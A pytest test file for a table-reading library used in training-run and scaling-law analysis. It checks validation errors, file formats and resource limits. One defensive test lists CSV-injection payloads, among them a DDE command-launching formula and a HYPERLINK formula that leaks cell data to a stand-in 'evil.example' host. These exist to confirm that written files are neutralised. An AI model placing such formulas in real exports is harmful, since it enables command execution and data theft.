"""Tables in: every bad one is an error that names the row and the column; every good one is numbers."""

import csv
import json
import os
import re
import time
from pathlib import Path

import numpy as np
import pytest

from lawful import tables, unpack
from lawful.errors import LawfulError, TableError
from lawful.tables import COLUMNS, Observations, current_name, read_runs, write_csv

GOOD = [
    {"params": 1_000_000, "tokens": 20_000_000, "loss": 3.25, "run": "a"},
    {"params": 2_000_000, "tokens": 40_000_000, "loss": 3.0, "run": "b"},
]


def written(tmp_path, text, name="runs.csv"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_a_table_survives_being_written_and_read(tmp_path):
    rows = [
        dict.fromkeys(COLUMNS) | {"run": "007", "loss": 0.1 + 0.2, "params_total": 10**12, "held_out": True},
        dict.fromkeys(COLUMNS) | {"run": "008", "loss": np.float64(1) / 3, "params_total": 5, "held_out": False},
    ]
    write_csv(tmp_path / "observations.csv", rows)
    back = read_runs(tmp_path / "observations.csv")
    assert back.values("run") == ["007", "008"]
    assert back.values("loss") == [0.1 + 0.2, 1 / 3]
    assert back.values("params_total") == [10**12, 5]
    assert back.values("held_out") == [True, False]


@pytest.mark.parametrize("kind", ["csv", "tsv", "jsonl", "parquet", "frame", "rows"])
def test_every_source_gives_the_same_rows(tmp_path, kind):
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame(GOOD)
    path = tmp_path / f"runs.{kind}"
    if kind == "csv":
        frame.to_csv(path, index=False)
    elif kind == "tsv":
        frame.to_csv(path, index=False, sep="\t")
    elif kind == "jsonl":
        frame.to_json(path, orient="records", lines=True)
    elif kind == "parquet":
        pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
        frame.to_parquet(path)
    source = {"frame": frame, "rows": GOOD}.get(kind, path)
    table = read_runs(source)
    assert [dict(row) for row in table] == GOOD
    assert table.roles == {"params": "params", "tokens": "tokens", "loss": "loss", "cluster": "run"}


def test_columns_are_named_by_hand_or_recognised(tmp_path):
    path = written(tmp_path, "Model Size,D,val_loss\n1e6,2e7,3.1\n2e6,2e7,3.0\n")
    table = read_runs(path, params="Model Size")
    assert table.roles == {"params": "Model Size", "tokens": "D", "loss": "val_loss"}
    assert table.numbers("Model Size").tolist() == [1e6, 2e6]


@pytest.mark.parametrize(
    ("cells", "complaint"),
    [
        ("1e6,2e7,", r"row 2, column 'loss': expected a positive loss, got an empty cell"),
        ("1e6,2e7,nan", r"row 2, column 'loss': expected a positive loss, got an empty cell \(NaN"),
        ("1e6,2e7,-1.5", r"row 2, column 'loss': expected a positive loss, got -1.5"),
        ("1e6,2e7,inf", r"row 2, column 'loss': expected a positive loss, got inf"),
        ("big,2e7,3.0", r"row 2, column 'params': expected a positive count \(params\), got the text 'big'"),
        ("0,2e7,3.0", r"row 2, column 'params': expected a positive count \(params\), got 0"),
        ('"1,000",2e7,3.0', r"row 2, column 'params': .* got the text '1,000' \(a comma before three digits"),
        ("1,000,000,2e7,3.0", r"row 2 \(line 3\): expected 3 cells, got 5"),
        ("1e5,2e7,3.5", r"row 2: the same as row 1 in every column"),
    ],
)
def test_a_bad_cell_is_named_by_row_and_column(tmp_path, cells, complaint):
    path = written(tmp_path, f"params,tokens,loss\n1e5,2e7,3.5\n{cells}\n")
    with pytest.raises(LawfulError, match=complaint):
        read_runs(path)


def test_a_number_stored_as_text_is_read(tmp_path):
    path = written(tmp_path, json.dumps({"params": "1e18", "loss": 2.0}) + "\n", "runs.jsonl")
    assert read_runs(path).numbers("params").tolist() == [1e18]


@pytest.mark.parametrize(
    ("text", "complaint"),
    [("", "got an empty file"), ("params,loss\n", "at least one row, got an empty one"), ("a,a\n1,2\n", "two columns")],
)
def test_an_empty_or_ambiguous_file_is_refused(tmp_path, text, complaint):
    with pytest.raises(LawfulError, match=complaint):
        read_runs(written(tmp_path, text))


def test_a_missing_column_is_an_error_that_lists_those_there_are():
    with pytest.raises(LawfulError, match="params: no column 'N'; the table has 'params', 'tokens', 'loss', 'run'"):
        read_runs(GOOD, params="N")


def test_a_missing_file_and_an_unknown_kind_are_named(tmp_path):
    with pytest.raises(LawfulError, match="no such file"):
        read_runs(tmp_path / "absent.csv")
    with pytest.raises(LawfulError, match=r"expected a table by its name \(\.csv, .* or \.xlsx\), got '\.doc'"):
        read_runs(written(tmp_path, "x", "runs.doc"))


def test_all_problems_are_reported_at_once():
    rows = [{"params": -1, "loss": 2.0}, {"params": 1e6, "loss": None}]
    with pytest.raises(LawfulError, match=r"(?s)row 1, column 'params'.*row 2, column 'loss'"):
        read_runs(rows)


def test_a_run_that_did_not_finish_may_lack_its_loss():
    rows = [*GOOD, {"params": 4_000_000, "tokens": 1, "loss": "", "run": "c", "status": "diverged"}]
    assert len(read_runs(rows)) == 3


def test_filters_are_recorded():
    table = read_runs(GOOD).where(lambda row: row["loss"] < 3.1, "too high")
    assert [row["run"] for row in table] == ["b"]
    assert table.dropped == ({"row": 1, "run": "a", "rung": "", "reason": "too high"},)
    assert isinstance(table, Observations)
    assert table.sha256 != read_runs(GOOD).sha256


def test_tensorboard_logs_give_a_row_a_run_with_each_scalars_last_value(tmp_path):
    pytest.importorskip("tensorboard", reason="TensorBoard logs need tensorboard")
    from tensorboard.compat.proto.event_pb2 import Event
    from tensorboard.compat.proto.summary_pb2 import Summary
    from tensorboard.summary.writer.event_file_writer import EventFileWriter

    for run, losses in (("small", (4.0, 3.5)), ("large", (3.8, 3.0))):
        writer = EventFileWriter(str(tmp_path / run))
        for step, loss in enumerate(losses):
            values = [Summary.Value(tag="eval/loss", simple_value=loss), Summary.Value(tag="params", simple_value=1e6)]
            writer.add_event(Event(step=step, wall_time=float(step), summary=Summary(value=values)))
        writer.close()
    table = read_runs(tmp_path, loss="eval/loss", reduce="last")
    assert table.values("run") == ["large", "small"]
    assert table.numbers("eval/loss").tolist() == [3.0, 3.5]
    assert table.roles["params"] == "params"
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(LawfulError, match="got neither"):
        read_runs(empty)


def test_numpys_own_numbers_are_numbers() -> None:
    rows = [{"tokens": np.int64(2) ** k, "loss": np.float32(1) + np.float32(k)} for k in (10, 11)]
    table = read_runs(rows)
    assert [row["tokens"] for row in table] == [1024, 2048]
    with pytest.raises(LawfulError, match=r"expected a positive count \(tokens\), got -1"):
        read_runs([{"tokens": np.int64(-1), "loss": 1.0}, rows[0]])


# what spreadsheets run when a table is opened (OWASP, CSV injection), and texts that look nearly like it
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"open")',
    "+1+cmd",
    "-1+cmd",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''=1",
    "'@",
    "=",
    # where a semicolon or a tab parts the cells, quotes are not heeded, and an end of line begins a row
    "x;=1+cmd",
    "x\t=1+cmd",
    "x\n=1+cmd",
    "x|@SUM(A1)",
    "x;'=1",
    '";=HYPERLINK(1);"',
]
HARMLESS = ["'quoted'", "it's", "a=b", "size=3,tokens=1000", "", "'", "-", "x-y", "a\rb", "a\nb", 'a"b', "é"]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_no_text_that_is_written_runs_in_a_spreadsheet_and_each_is_read_back_as_it_was(tmp_path, text):
    row = {
        "rung": text,
        "at_axis": text,
        "loss": 3.5,
        "gain": -3.5,
        "status": "finished",
        "reason": "x",
        "note": "-3.5",
    }
    path = tmp_path / "observations.csv"
    write_csv(path, [row | {text or "also": 1}])
    with path.open(encoding="utf-8", newline="") as file:
        names, cells = list(csv.reader(file))  # what a spreadsheet sees
    shown = dict(zip(names, cells, strict=True))
    runs = [cell for cell in [*names, *cells] if cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\uff1d")]
    runs += [cell for cell in cells if cell[:1] == "-" and cell != "-3.5"]
    assert runs == ([] if text != "-" else runs)
    parts = [part for cell in [*names, *cells] for part in re.split(r"[;|\t\r\n]", cell) if cell != "-3.5"]
    assert text == "-" or not any(part.startswith(("=", "+", "-", "@", "\uff1d")) for part in parts)
    assert shown["gain"] == "-3.5" and shown["note"] == "-3.5"
    (back,) = read_runs(tmp_path)
    assert (back["rung"], back["at_axis"] or "", back[text or "also"]) == (text, text, 1)
    (kept,) = tables.read_cells(path)
    assert (kept["rung"], kept["at_axis"], kept[text or "also"]) == (text, text, "1")
    before = path.read_bytes()
    write_csv(path, [kept])  # as a table that is kept is written again
    assert path.read_bytes() == before


def test_a_field_that_no_column_is_named_for_is_not_lost_in_silence(tmp_path):
    with pytest.raises(ValueError, match="not in fieldnames"):
        write_csv(tmp_path / "runs.csv", [{"loss": 1, "other": 2}], columns=["loss"])


def test_a_parquet_table_that_stands_for_far_more_than_it_weighs_is_refused(tmp_path, monkeypatch):
    pyarrow = pytest.importorskip("pyarrow", reason="Parquet needs pyarrow")
    from pyarrow import parquet

    path = tmp_path / "bomb.parquet"
    monkeypatch.setattr("lawful.tables.formats.MOST_CELLS", 900_000)
    parquet.write_table(pyarrow.table({"loss": pyarrow.array([1.0] * 1_000_000)}), path)
    assert path.stat().st_size < 10_000
    with pytest.raises(LawfulError, match=r"bomb\.parquet: expected a table of at most 900,000 cells, got 1,000,000"):
        read_runs(path)
    monkeypatch.setattr(unpack, "LEAST_ROOM", 2**20)
    word = pyarrow.array(["x" * 1_000])
    many = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 50_000, pyarrow.int32()), word).cast(
        pyarrow.string()
    )
    parquet.write_table(pyarrow.table({"run": many}), path)
    with pytest.raises(LawfulError, match=r"bomb\.parquet: expected at most [\d,]+ bytes in a file of its size"):
        read_runs(path)


OWN = {"study": "toy", "run": "a", "rung": "size=1", "data_fingerprint": "1", "params": 1000, "loss": 3.0}
FORMER = {"loss_best": 2.8, "best_loss": 2.9, "best_accuracy": 0.5, "best_test_loss": 2.7}
CURRENT = {
    "loss_lowest_seen": 2.8,
    "best_weights_loss": 2.9,
    "best_weights_accuracy": 0.5,
    "best_weights_test_loss": 2.7,
}


def test_a_table_that_lawful_wrote_under_former_names_is_read_under_todays(tmp_path):
    write_csv(tmp_path / "old.csv", [{**OWN, **FORMER}])
    write_csv(tmp_path / "new.csv", [{**OWN, **CURRENT}])
    old, new = read_runs(tmp_path / "old.csv"), read_runs(tmp_path / "new.csv")
    assert [dict(row) for row in old] == [dict(row) for row in new]
    assert CURRENT.items() <= dict(old.rows[0]).items()
    for table in (tmp_path / "old.csv", tmp_path / "new.csv", [{**OWN, **FORMER}], old):
        for name in ("best_loss", "best_weights_loss"):
            assert read_runs(table, loss=name).roles["loss"] == "best_weights_loss"


def test_a_column_of_a_users_own_table_keeps_its_name():
    (row,) = read_runs([{"params": 1000, "best_loss": 2.9, "loss_best": 3.0}], loss="best_loss")
    assert set(row) == {"params", "best_loss", "loss_best"}
    with pytest.raises(LawfulError, match="no column 'best_loss'"):
        read_runs([{"params": 1000, "loss": 2.9}], loss="best_loss")


def test_every_column_of_todays_table_keeps_its_name():
    assert [current_name(name) for name in COLUMNS] == list(COLUMNS)


@pytest.mark.parametrize("name", ["wide.csv", "wide.jsonl"])
def test_a_table_of_many_columns_is_read_or_refused_within_seconds(tmp_path: Path, name: str) -> None:
    path, began = tmp_path / name, time.monotonic()
    if name == "wide.csv":
        path.write_text("\n".join(",".join(f"{mark}{i}" for i in range(30_000)) for mark in ("c", "")) + "\n")
    else:  # names of their own in every row
        path.write_text("\n".join(json.dumps({f"{row}_{i}": 1 for i in range(50)}) for row in range(2_000)))
    if name == "wide.csv":
        assert len(read_runs(path).columns) == 30_000
    else:
        with pytest.raises(TableError, match="expected a table of at most 50,000,000 cells"):
            read_runs(path)
    assert time.monotonic() - began < 30


@pytest.mark.parametrize("name", ["a.csv", "a.jsonl", "observations.csv"])
def test_a_table_that_is_as_large_as_its_name_says_and_holds_nothing_is_refused(tmp_path: Path, name: str) -> None:
    with (tmp_path / name).open("wb") as file:
        file.write(b"a,b\n" if name.endswith("csv") else b"")
        file.truncate(2**36)
    with pytest.raises(TableError, match="expected at most 16,777,216 characters, got more"):
        read_runs(tmp_path / name) if name[0] == "a" else tables.read_cells(tmp_path / name)


def test_a_row_of_deep_lists_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text('{"loss": 1, "x": ' + "[" * 600 + "]" * 600 + "}\n")
    with pytest.raises(TableError, match="row 1: expected a JSON object, got lists nested too deeply"):
        read_runs(tmp_path / "a.jsonl")


@pytest.mark.parametrize("name", ["a.csv", "a.jsonl", "a.parquet", "run/events.out.tfevents.1"])
def test_a_table_that_is_a_pipe_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "run").mkdir()
    os.mkfifo(tmp_path / name)
    with pytest.raises(TableError, match="expected a file, got a pipe"):
        read_runs(tmp_path if "/" in name else tmp_path / name)


def test_a_table_of_a_study_without_rows_is_refused_as_empty(tmp_path: Path) -> None:
    write_csv(tmp_path / "runs.csv", [{**OWN, **CURRENT}])
    header = (tmp_path / "runs.csv").read_text().splitlines()[0]
    (tmp_path / "runs.csv").write_text(header + "\n")
    with pytest.raises(TableError, match="at least one row"):
        read_runs(tmp_path / "runs.csv")
